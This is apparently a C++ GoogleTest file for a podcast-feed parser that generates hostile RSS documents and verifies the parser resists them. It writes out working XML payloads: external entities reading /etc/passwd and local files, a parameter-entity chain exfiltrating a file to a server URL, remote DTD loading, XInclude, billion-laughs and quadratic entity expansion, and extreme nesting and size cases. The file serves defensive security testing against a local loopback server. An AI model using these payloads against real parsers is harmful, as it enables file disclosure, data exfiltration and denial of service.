// Hostile documents given to `podcrawl parse`: external entities and DTDs (through files, the
// network and parameter entities), entity expansion, extreme nesting, attribute counts and
// string sizes. Each document is generated here, written to a temporary folder and parsed by
// the real binary in a child process with bounded address space, which must finish within the
// issue's bounds (2 s, 256 MB resident) with exit status 0 or 2, print nothing it could only
// have read from a file, and send no request to the loopback server the document points at.
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <iostream>
#include <string>
#include <string_view>
#include <vector>

#include "support/http_client.hpp"
#include "support/loopback_server.hpp"
#include "support/process.hpp"
#include "support/temp_dir.hpp"

namespace podcrawl {
namespace {

namespace fs = std::filesystem;

// The bounds every hostile document must be parsed within.
constexpr double k_max_wall_seconds = 2.0;
constexpr long k_max_resident_kilobytes = 256L * 1024;
// The child's address space, so that a runaway parse fails fast instead of swapping.
constexpr rlim_t k_address_space_bytes = 512UL * 1024 * 1024;
// CPU seconds after which a child that never finishes is killed, so the test cannot hang.
constexpr rlim_t k_cpu_seconds = 20;

constexpr std::string_view k_secret_marker = "PODCRAWL-SECRET-MARKER-5d1c0e";
constexpr std::string_view k_dtd_marker = "PODCRAWL-DTD-MARKER-93be41";

// What a generator may point a document at.
struct Context {
  std::string secret_path;   // a file holding k_secret_marker
  std::string server_url;    // "http://127.0.0.1:<port>" of a loopback server that logs requests
  std::string passwd_sample; // the first line of /etc/passwd, empty when unreadable
};

struct HostileCase {
  std::string_view name;
  std::string (*make)(const Context&);
  // Printed when the document got as far as it should (a description through the sanitizer,
  // not dropped earlier for its size); empty when there is nothing to see.
  std::string_view expected_output = {};
};

std::string repeat(std::string_view text, std::size_t times) {
  std::string out;
  out.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) {
    out += text;
  }
  return out;
}

// An RSS document with `prolog` (a DOCTYPE) before the root, `channel` inside the channel and
// `item` inside its one item.
std::string rss(std::string_view prolog, std::string_view channel, std::string_view item) {
  std::string out = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
  out.append(prolog).append("\n<rss version=\"2.0\"><channel><title>Hostile</title>");
  out.append(channel).append("<item><guid>hostile-1</guid>").append(item);
  return out.append("</item></channel></rss>\n");
}

// An item whose title and description use the entity `name`, and a channel description too.
std::string uses_entity(std::string_view prolog, std::string_view name) {
  std::string reference = "&" + std::string(name) + ";";
  return rss(prolog, "<description>" + reference + "</description>",
             "<title>" + reference + "</title><description>" + reference + "</description>");
}

// `count` distinct attribute names, `prefix` and a number in base 36 (short, so that a
// description with them stays under the feed's bound on markup), each after a space and
// followed by `value` ("=\"v\"", or nothing for attributes without one).
std::string attribute_list(std::size_t count, std::string_view prefix, std::string_view value) {
  constexpr std::string_view k_digits = "0123456789abcdefghijklmnopqrstuvwxyz";
  std::string out;
  for (std::size_t i = 0; i < count; ++i) {
    out.append(" ").append(prefix);
    std::size_t rest = i;
    do {
      out += k_digits[rest % k_digits.size()];
      rest /= k_digits.size();
    } while (rest > 0);
    out += value;
  }
  return out;
}

std::string many_attributes(std::string_view element, std::size_t count) {
  return "<" + std::string(element) + attribute_list(count, "a", "=\"v\"") + ">";
}

// An item whose description is `html` in a CDATA section.
std::string html_description(std::string_view html) {
  return rss("", "", "<description><![CDATA[" + std::string(html) + "]]></description>");
}

constexpr std::size_t k_deep = 200'000;
constexpr std::size_t k_attributes = 100'000;
constexpr std::size_t k_big_bytes = 8 * 1024 * 1024;

const HostileCase k_cases[] = {
    {"ExternalEntityReadingEtcPasswd",
     [](const Context&) {
       return uses_entity("<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe");
     }},
    {"ExternalEntityReadingAFileByAbsolutePath",
     [](const Context& context) {
       return uses_entity(
           "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file://" + context.secret_path + "\">]>", "xxe");
     }},
    {"ExternalEntityReadingAFileBesideTheFeed",
     [](const Context&) {
       return uses_entity("<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"secret.txt\">]>", "xxe");
     }},
    {"ExternalEntityFetchedOverHttp",
     [](const Context& context) {
       return uses_entity("<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"" + context.server_url + "/x\">]>",
                          "xxe");
     }},
    {"ParameterEntityLoadingARemoteDtd",
     [](const Context& context) {
       return uses_entity("<!DOCTYPE rss [<!ENTITY % remote SYSTEM \"" + context.server_url +
                              "/remote.dtd\"> %remote;]>",
                          "evil");
     }},
    {"ParameterEntitiesExfiltratingAFile",
     [](const Context& context) {
       return uses_entity("<!DOCTYPE rss [<!ENTITY % file SYSTEM \"file://" + context.secret_path +
                              "\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '" +
                              context.server_url + "/exfil?%file;'>\"> %eval; %exfil;]>",
                          "evil");
     }},
    {"ExternalDtdBySystemIdentifier",
     [](const Context& context) {
       return uses_entity("<!DOCTYPE rss SYSTEM \"" + context.server_url + "/evil.dtd\">", "evil");
     }},
    {"ExternalDtdByPublicIdentifier",
     [](const Context& context) {
       return uses_entity("<!DOCTYPE rss PUBLIC \"-//Hostile//DTD Evil//EN\" \"" +
                              context.server_url + "/evil.dtd\">",
                          "evil");
     }},
    {"DoctypeHiddenBehindCommentsAndProcessingInstructions",
     [](const Context& context) {
       return uses_entity(
           "<!-- > --><?pi ?>\n<!DOCTYPE rss [\n<!-- ]> -->\n<!ENTITY xxe SYSTEM "
           "'file://" +
               context.secret_path + "'>\n]>",
           "xxe");
     }},
    {"XIncludeOfAFile",
     [](const Context& context) {
       return rss("", "",
                  "<description><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                  "href=\"file://" +
                      context.secret_path + "\" parse=\"text\"/></description>");
     }},
    {"BillionLaughs",
     [](const Context&) {
       std::string prolog = "<!DOCTYPE rss [<!ENTITY lol0 \"lol\">";
       for (int level = 1; level <= 9; ++level) {
         prolog += "<!ENTITY lol" + std::to_string(level) + " \"" +
                   repeat("&lol" + std::to_string(level - 1) + ";", 10) + "\">";
       }
       return uses_entity(prolog + "]>", "lol9");
     }},
    {"QuadraticBlowup",
     [](const Context&) {
       std::string prolog = "<!DOCTYPE rss [<!ENTITY big \"" + repeat("x", 50'000) + "\">]>";
       return rss(prolog, "", "<description>" + repeat("&big;", 50'000) + "</description>");
     }},
    {"ElementsNested200000Deep",
     [](const Context&) {
       return rss("", "", "<title>deep</title>" + repeat("<x>", k_deep) + repeat("</x>", k_deep));
     }},
    {"ElementsNested200000DeepNeverClosed",
     [](const Context&) {
       return "<rss version=\"2.0\"><channel><title>t</title><item><title>deep</title>" +
              repeat("<x>", k_deep);
     }},
    {"HtmlNested200000DeepInADescription",
     [](const Context&) {
       return rss("", "",
                  "<description><![CDATA[" + repeat("<div>", k_deep) + "text" +
                      repeat("</div>", k_deep) + "]]></description>");
     }},
    {"HundredThousandAttributesOnAnElement",
     [](const Context&) {
       return rss("", "",
                  "<title>attributes</title>" + many_attributes("x", k_attributes) + "</x>");
     }},
    {"HundredThousandDuplicateAttributes",
     [](const Context&) {
       return rss("", "",
                  "<enclosure type=\"audio/mpeg\"" +
                      repeat(" url=\"https://media.example/a.mp3\"", k_attributes) + "/>");
     }},
    {"HundredThousandAttributesInDescriptionHtml",
     [](const Context&) {
       return html_description("<p" + attribute_list(k_attributes, "", "") + ">text</p>");
     },
     "<p>text</p>"},
    {"HundredThousandAttributesWithoutValuesInDescriptionHtml",
     [](const Context&) { return html_description("<p" + repeat(" a", k_attributes) + ">x</p>"); },
     "<p>x</p>"},
    {"HundredThousandAttributesOnAnHtmlEndTag",
     [](const Context&) {
       return html_description("<p>x</p" + attribute_list(k_attributes, "", "") + ">");
     },
     "<p>x</p>"},
    {"HtmlAttributesAfterACommentHoldingAQuote",
     [](const Context&) {
       return html_description("<!-- <p a=\" --><p" + attribute_list(k_attributes, "", "") +
                               ">x</p>\"");
     },
     // The comment ends at its "-->", as the parser ends it: the tag after it is read, its
     // attributes within the bound (none is allowed on p).
     "\"<p>x</p>\\\"\""},
    {"HtmlAttributesAfterRawTextHoldingAQuote",
     [](const Context&) {
       return html_description("<style><p a=\"</style><p" + attribute_list(k_attributes, "", "") +
                               ">x</p>\"");
     }},
    {"HtmlAttributesInsideAQuotedAttributeValue",
     [](const Context&) {
       return html_description("<p title=\"<p" + attribute_list(k_attributes, "", "") +
                               ">\">x</p>");
     },
     "<p title=\\\"&lt;p 0 1 2 3"},
    {"XmlAttributesInsideAnAttributeValue",
     [](const Context&) {
       return rss("", "",
                  "<x b=\"<y" + attribute_list(k_attributes, "a", "=\"\"") + ">\"></x></y>");
     }},
    {"DoctypeEndingInsideACommentOfItsOwnSubset",
     [](const Context& context) {
       // A reader that ends the DOCTYPE at the first "]>" leaves the inner one to the parser.
       std::string inner = "<!DOCTYPE rss [<!ENTITY lol0 \"lol\">";
       for (int level = 1; level <= 9; ++level) {
         inner += "<!ENTITY lol" + std::to_string(level) + " \"" +
                  repeat("&lol" + std::to_string(level - 1) + ";", 10) + "\">";
       }
       inner += "<!ENTITY xxe SYSTEM \"file://" + context.secret_path +
                "\"><!ENTITY % remote SYSTEM \"" + context.server_url + "/remote.dtd\"> %remote;]>";
       return "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!--]>" + inner +
              "<rss version=\"2.0\"><channel><title>&xxe;&lol9;&evil;</title><item><title>"
              "&lol9;</title><description>&xxe;</description></item></channel></rss>\n-->]>\n"
              "<rss version=\"2.0\"><channel><title>decoy</title></channel></rss>\n";
     }},
    {"EightMegabyteTitle",
     [](const Context&) {
       return rss("", "", "<title>" + repeat("word ", k_big_bytes / 5) + "</title>");
     }},
    {"EightMegabyteTitleWithoutSpaces",
     [](const Context&) { return rss("", "", "<title>" + repeat("w", k_big_bytes) + "</title>"); }},
    {"EightMegabyteHtmlDescription",
     [](const Context&) {
       constexpr std::string_view k_paragraph =
           "<p>Notes with <b>bold</b>, <a href=\"/x?a=1&amp;b=2\">a link</a> &amp; more</p>\n";
       return rss("", "",
                  "<description><![CDATA[" + repeat(k_paragraph, k_big_bytes / k_paragraph.size()) +
                      "]]></description>");
     }},
    {"EightMegabyteEscapedHtmlDescriptionWithHtmlEntities",
     [](const Context&) {
       constexpr std::string_view k_paragraph =
           "&lt;p&gt;caf&eacute;&nbsp;&amp; &hellip;&lt;/p&gt;";
       return rss("", "",
                  "<description>" + repeat(k_paragraph, k_big_bytes / k_paragraph.size()) +
                      "</description>");
     }},
    {"EightMegabyteEnclosureUrl",
     [](const Context&) {
       return rss("", "",
                  "<enclosure type=\"audio/mpeg\" url=\"https://media.example/" +
                      repeat("a", k_big_bytes) + ".mp3\"/>");
     }},
    {"HundredThousandItems",
     [](const Context&) {
       std::string items;
       for (int i = 0; i < 100'000; ++i) {
         items += "<item><guid>" + std::to_string(i % 50'000) + "</guid><title>t</title></item>";
       }
       return rss("", items, "");
     }},
};

struct Measured {
  int status = -1; // exit status, or -1 when the child was killed by a signal
  int signal = 0;
  double wall_seconds = 0;
  long max_resident_kilobytes = 0;
  std::string out;
  std::string err;
};

// Run a program with bounded address space and CPU time, its stdout and stderr written to
// files in `folder`; return how it ended and what it cost.
Measured run_bounded(const std::vector<std::string>& arguments, const fs::path& folder) {
  const fs::path out_path = folder / "stdout";
  const fs::path err_path = folder / "stderr";
  const int out_fd = open(out_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  const int err_fd = open(err_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (out_fd < 0 || err_fd < 0) {
    throw std::runtime_error("cannot create the child's output files");
  }
  std::vector<char*> argv;
  for (const auto& argument : arguments) {
    argv.push_back(const_cast<char*>(argument.c_str()));
  }
  argv.push_back(nullptr);
  const auto started = std::chrono::steady_clock::now();
  const pid_t pid = fork();
  if (pid == 0) {
    // Only async-signal-safe calls between fork and exec.
#ifndef PODCRAWL_SANITIZED
    const rlimit address_space{k_address_space_bytes, k_address_space_bytes};
    setrlimit(RLIMIT_AS, &address_space);
#endif
    const rlimit cpu{k_cpu_seconds, k_cpu_seconds};
    setrlimit(RLIMIT_CPU, &cpu);
    dup2(out_fd, STDOUT_FILENO);
    dup2(err_fd, STDERR_FILENO);
    execv(argv[0], argv.data());
    _exit(127);
  }
  close(out_fd);
  close(err_fd);
  if (pid < 0) {
    throw std::runtime_error("fork failed");
  }
  int status = 0;
  rusage usage{};
  wait4(pid, &status, 0, &usage);
  Measured measured;
  measured.wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
  measured.max_resident_kilobytes = usage.ru_maxrss;
  measured.status = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  measured.signal = WIFSIGNALED(status) ? WTERMSIG(status) : 0;
  measured.out = testing::read_file(out_path);
  measured.err = testing::read_file(err_path);
  return measured;
}

std::string first_line_of_passwd() {
  try {
    std::string passwd = testing::read_file("/etc/passwd");
    return passwd.substr(0, passwd.find('\n'));
  } catch (const std::runtime_error&) {
    return {};
  }
}

class HostileFeed : public ::testing::TestWithParam<HostileCase> {};

TEST_P(HostileFeed, ParsesWithinBoundsReadingAndFetchingNothing) {
  const HostileCase& hostile = GetParam();
  testing::TempDir folder;
  testing::LoopbackServer server;
  // Were a DTD ever fetched, its entities would put the marker into the output.
  const std::string dtd = "<!ENTITY evil \"" + std::string(k_dtd_marker) + "\">";
  for (const char* path : {"/x", "/remote.dtd", "/evil.dtd"}) {
    server.on_get(path, [dtd](const testing::Request&, testing::Response& response) {
      response.set_content(dtd, "application/xml-dtd");
    });
  }
  Context context;
  context.secret_path = (folder.path() / "secret.txt").string();
  context.server_url = server.url("");
  context.passwd_sample = first_line_of_passwd();
  testing::write_file(context.secret_path, std::string(k_secret_marker) + "\n");
  const fs::path feed = folder.path() / "hostile.xml";
  testing::write_file(feed, hostile.make(context));

  const Measured measured =
      run_bounded({testing::podcrawl_binary(), "parse", feed.string()}, folder.path());

  std::cout << "[ measured ] " << hostile.name << ": " << measured.wall_seconds << " s, "
            << measured.max_resident_kilobytes / 1024 << " MB resident, exit " << measured.status
            << ", " << fs::file_size(feed) << " bytes in, " << measured.out.size()
            << " bytes out\n";
  if (!hostile.expected_output.empty()) {
    EXPECT_NE(measured.out.find(hostile.expected_output), std::string::npos)
        << measured.out.substr(0, 2000);
  }
  EXPECT_TRUE(measured.status == 0 || measured.status == 2)
      << "exit status " << measured.status << ", signal " << measured.signal << "\n"
      << measured.err.substr(0, 2000);
#ifndef PODCRAWL_SANITIZED
  EXPECT_LT(measured.wall_seconds, k_max_wall_seconds);
  EXPECT_LT(measured.max_resident_kilobytes, k_max_resident_kilobytes);
#endif
  for (const std::string* output : {&measured.out, &measured.err}) {
    EXPECT_EQ(output->find(k_secret_marker), std::string::npos);
    EXPECT_EQ(output->find(k_dtd_marker), std::string::npos);
    EXPECT_EQ(output->find("root:x:0:0"), std::string::npos);
    if (!context.passwd_sample.empty()) {
      EXPECT_EQ(output->find(context.passwd_sample), std::string::npos);
    }
  }
  EXPECT_TRUE(server.requests().empty()) << "first request: " << server.requests().front().path;
}

INSTANTIATE_TEST_SUITE_P(Documents, HostileFeed, ::testing::ValuesIn(k_cases),
                         [](const ::testing::TestParamInfo<HostileCase>& param_info) {
                           return std::string(param_info.param.name);
                         });

TEST(HostileFeedHarness, SeesWhatItChecksFor) {
  // The checks above are only as good as these observations, so they must see a read, a
  // request and an overrun when one happens.
  testing::TempDir folder;
  testing::LoopbackServer server;
  const fs::path secret = folder.path() / "secret.txt";
  testing::write_file(secret, std::string(k_secret_marker) + "\n");
  const Measured read = run_bounded({"/bin/cat", secret.string()}, folder.path());
  EXPECT_EQ(read.status, 0);
  EXPECT_NE(read.out.find(k_secret_marker), std::string::npos);

  testing::curl_get(server.port(), "/evil.dtd");
  EXPECT_EQ(server.count("/evil.dtd"), 1);

  // dd fills a 300 MB block from /dev/zero, so all of it becomes resident.
  const Measured busy =
      run_bounded({"/bin/dd", "if=/dev/zero", "of=/dev/null", "bs=300M", "count=1"}, folder.path());
  EXPECT_EQ(busy.status, 0);
  EXPECT_GT(busy.max_resident_kilobytes, k_max_resident_kilobytes);
}

} // namespace
} // namespace podcrawl
